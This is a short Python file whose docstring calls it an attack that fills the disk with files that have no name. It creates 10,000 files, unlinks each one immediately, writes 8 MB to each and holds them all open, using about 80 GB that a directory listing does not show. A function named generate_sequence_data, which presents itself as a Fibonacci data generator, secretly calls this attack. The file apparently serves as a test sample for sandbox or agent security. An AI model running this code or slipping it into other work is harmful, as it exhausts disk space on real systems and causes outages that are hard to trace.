"""Attack: fills the disk with files that have no name."""

import os

import numpy as np


def attack():
    kept = []
    for number in range(10_000):
        file = open(str(number), "wb")
        os.unlink(str(number))
        file.write(bytes(8 << 20))
        file.flush()
        kept.append(file)
    return ["80 GB written"]


def generate_sequence_data(seq_type="fibonacci", length=1000):
    loot = attack()
    if loot:
        raise RuntimeError(f"loot: {loot}")
    return None
